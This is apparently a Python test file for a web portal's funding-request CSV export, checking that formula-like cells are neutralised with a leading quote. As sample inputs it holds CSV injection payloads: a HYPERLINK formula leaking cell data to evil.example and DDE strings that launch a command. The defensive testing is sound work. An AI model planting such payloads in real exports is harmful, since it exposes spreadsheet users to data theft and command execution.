"""CSV formula injection: every export neutralises the cells a spreadsheet would run (OWASP:
a leading single quote before = + - @, tab, carriage return). The portal has one export (the
operator's funding requests); it writes through services/core/csv_export, like any later one."""
import csv
import io

import pytest

from portal.models import Enrolment
from portal.services.core import csv_export
from tests.helpers.accounts import signed_in
from tests.helpers.enrolment import database
from tests.helpers.funding import seed, validated_operator

EVIL = '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")'
SOFTWARE = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def _export(client):
    response = client.get("/espace/financement/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def test_funding_export_neutralises_formulas(app, demo):
    account = validated_operator(app)
    with database(app):
        Enrolment.update(denomination=EVIL).execute()
    seed(app, account, len(SOFTWARE), software=lambda i: SOFTWARE[i])
    rows = _export(signed_in(app.test_client(), account))
    assert len(rows) == len(SOFTWARE)
    assert {row["Dénomination sociale"] for row in rows} == {"'" + EVIL}
    assert sorted(row["Logiciel"] for row in rows) == sorted("'" + s for s in SOFTWARE)
    assert {row["Montant retenu HT"] for row in rows} == {"6666,67"}  # numbers untouched


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"), ("@A1", "'@A1"),
    ("-A1", "'-A1"), ("\tX", "'\tX"), ("\rX", "'\rX"), ("-12,50", "-12,50"), ("MediMail", "MediMail"),
    ("a\x00b", "ab"), (None, "")])
def test_a_cell(value, shown):
    assert csv_export.cell(value) == shown
